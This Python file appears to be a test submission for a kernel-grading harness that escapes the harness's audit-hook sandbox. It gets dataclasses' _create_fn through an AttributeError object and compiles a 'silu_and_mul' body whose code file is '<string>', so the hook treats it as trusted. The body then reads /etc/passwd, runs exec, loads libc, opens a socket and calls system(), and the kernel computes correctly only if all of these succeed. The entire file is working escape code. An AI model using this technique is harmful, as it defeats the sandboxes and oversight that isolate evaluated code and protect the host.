"""The entry is a function dataclasses' code generator compiles (its
_create_fn, reached through AttributeError.obj -> torch.sys.modules): its
code's file is "<string>", so when the worker calls it no candidate frame
is on the stack and the audit hook lets it read any file, exec, dlopen,
open a socket and start a process. It computes correctly only if all of
them worked."""
import torch


def _grab():
    try:
        torch.nn.functional.zz_missing_name
    except AttributeError as e:
        return e.obj
    return None


_F = _grab()
_T = _F.torch
_DC = _T.sys.modules["dataclasses"]

_BODY = [
    "if not S:",
    "    ok = 'root:' in open('/etc/passwd').read()",
    "    ns = {}",
    "    exec('z = 6*7', ns)",
    "    ok = ok and ns['z'] == 42",
    "    import ctypes",
    "    libc = ctypes.CDLL('libc.so.6')",
    "    fd = libc.socket(1, 1, 0)",
    "    ok = ok and fd >= 0",
    "    libc.close(fd)",
    "    ok = ok and libc.system(b'exit 3') == 3 << 8",
    "    S.append(1.0 if ok else 0.5)",
    "d = x.shape[-1] // 2",
    "out.copy_(torch.nn.functional.silu(x[..., :d].float()) * x[..., d:].float() * S[0])",
]
silu_and_mul = _DC._create_fn("silu_and_mul", ["x", "out"], _BODY, globals={"torch": _T, "S": []})
